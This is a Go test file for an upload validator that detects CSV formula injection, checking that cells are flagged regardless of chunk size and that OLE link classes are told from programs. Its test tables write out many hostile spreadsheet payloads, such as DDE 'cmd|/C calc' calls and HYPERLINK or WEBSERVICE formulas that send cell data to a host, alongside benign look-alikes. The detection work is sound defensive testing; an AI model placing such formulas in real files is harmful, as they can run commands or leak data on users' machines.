package inspect

import (
	"bytes"
	"strings"
	"testing"

	"airlock/validator/inspect/corpus"
)

// tableIn judges a table that arrives in pieces of n bytes.
func tableIn(t *testing.T, n int, data []byte) string {
	t.Helper()
	w := newWork(t.Context(), New(), Upload{Size: int64(len(data)), Bytes: bytes.NewReader(data)})
	defer w.end()
	f := &formulas{l: w.whole(Upload{})}
	for len(data) > 0 {
		if err := f.feed(data[:min(n, len(data))]); err != nil {
			return err.Error()
		}
		data = data[min(n, len(data)):]
	}
	if err := f.end(); err != nil {
		return err.Error()
	}
	return ""
}

func TestItDoesNotMatterWhereATableIsCut(t *testing.T) {
	for _, c := range corpus.All() {
		if c.Type != "text/csv" {
			continue
		}
		data := c.Make()
		want := tableIn(t, len(data)+1, data)
		for _, n := range []int{1, 2, 3, 7, 64, 8192} {
			if got := tableIn(t, n, data); got != want {
				t.Errorf("%s in pieces of %d: %q, at once %q", c.Name, n, got, want)
			}
		}
	}
}

func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
	for line, want := range map[string]bool{
		`=RTD("a")`: true, `=IF(1,RTD("a"))`: true, `=@RTD (1)`: true, `+RTD("1")`: true, `-1+CALL("1")`: true, `=_xlfn._xlws.WEBSERVICE(A1)`: true,
		`-- (see call (2))`: false, `- call (me)`: false, `= see exec(utive)`: false, `=A1+4,call (2)`: false, `-1,(call(2))`: false, `x,RTD(1)`: false,
		`- exec("x")`: false, `-exec("x")`: true, `+  call ("x")`: false, `- RTD("x")`: false, `- RTD("x",,"y")`: true, `- exec("x")+cmd|'/c'!A0`: true, `-1+ exec("x")`: false,
		`=cmd|'/c'!A`: true, `=1+cmd|x!A`: true, `=-cmd|'x'!A`: true, `=cmd|'a''b'!A`: true, `-x|y!`: false, `'=cmd|'x'!A`: false,
		`+cmd|/Ccalc!A0`: true, `-cmd|/C calc!A0`: true, `@cmd|/c!$A$1`: true, `- cmd|/C!A0`: false, `-a|b!`: false, `-a|b! c1`: false, `-a b|c!A0`: false, `-a|b!cd e1`: false,
		`+IMAGE(A2)`: true, `-IMAGE($B$12,"x")`: true, `- image (a2)`: false, `-image(s)`: false, `-image(a2 of it)`: false, `-image (a2)`: false,
		`=MAP(A1,IMAGE)`: true, `=LET(f,IMAGE,f(A1))`: true, `=IF(A1,IMAGE,2)`: false, `=ＷＥＢＳＥＲＶＩＣＥ(A1)`: true, `=ＨＹＰＥＲＬＩＮＫ("https://e/"&A1)`: true,
		`='http://h/x.csv'#$x.A1`: true, `+'\\h\s\[x.xls]S'!A1`: true, `=SUM('file:///x'#$S.A1)`: true, `='a'!A1+'//h/[x]S'!$A$1`: true, `=A1 'https://h/[x]S'!A1`: true, `=f('a+'http://h/x'#A1`: true,
		`=INDIRECT("'\\h\s\[x.xls]S'!A1")`: true, `='My sheet'!A1`: false, `='[Book2.xlsx]Sheet'!A1`: false, `='C:\a\[b.xlsx]S'!A1`: false, `- it's 'http://h/x'! Great`: false, `='http://h/x'`: false,
		`-5|'Great'!x`: false, `-5%|'Great'!A1`: false, `-5| 'Great'! Loved it`: false, `-b|'wow'!|x`: false, `-b|'wow'!A0`: true, `=1+cmd|'x'! A0`: true,
		`- DDE ("Direct Debit") fee, x`: false, `-Shell("Main St")`: false, `-CALL("a","b")`: true, `- CALL ("a","b")`: true, `+ RTD("a" ;"b")`: true, `- WEBSERVICE("http://h/")`: true,
		`=VERKKOPALVELU(A1)`: true, `=NETTJENESTE(A1)`: true, `=webszolgáltatás(A1)`: true, `=webhizmeti(A1)`: true, `=DANE.CZASU.RZECZ("x";;"y")`: true, `=RTG("x";;"y")`: true, `- via ("x")`: false,
		`=OBRÁZEK("http://e/"&A1)`: true, `=HYPERLÄNK("http://e/"&A1)`: true,
		`=HYPERLINK("https://e/"&A1)`: true, `=HYPERLINK("#"&A1)`: false, `=HYPERLINK("https://e/?a&b",A1&"x")`: false, `=HYPERLINK(A1)`: false,
	} {
		if got := tableIn(t, 5, []byte("a,b\n1,"+line+"\n")); (got != "") != want {
			t.Errorf("%s: %q", line, got)
		}
	}
}

func TestClassesOfDocumentsAreToldFromPrograms(t *testing.T) {
	for link, want := range map[string]bool{
		"Word.Document.8\x03C:\\a.doc": true, "Excel.Sheet.12\x03\\\\h\\s\\a.xlsx": false, "Excel.Sheet.8\x03http://h/a.xls": false, "Excel.Sheet.8\x03\x01@h\x03s\x03a.xls": false, "AcroExch.Document.7\x03a.pdf": true, "Package\x03C:\\a.bmp": true, "Paint.Picture\x03C:\\a.bmp": true,
		"cmd\x03/c calc": false, "cmd.exe\x03C:\\a.doc": false, "cmd.exe.1\x03/c calc": false, "C:\\x.y.1\x03a.doc": false, "Word.Document.8\x03/c a.doc": false, "mshta\x03a.doc": false, "a..1\x03a.doc": false,
	} {
		service, topic, _ := strings.Cut(link, "\x03")
		if got := isDocumentClass(service) && isFilePath(topic); got != want {
			t.Errorf("%q: %v", link, got)
		}
	}
}
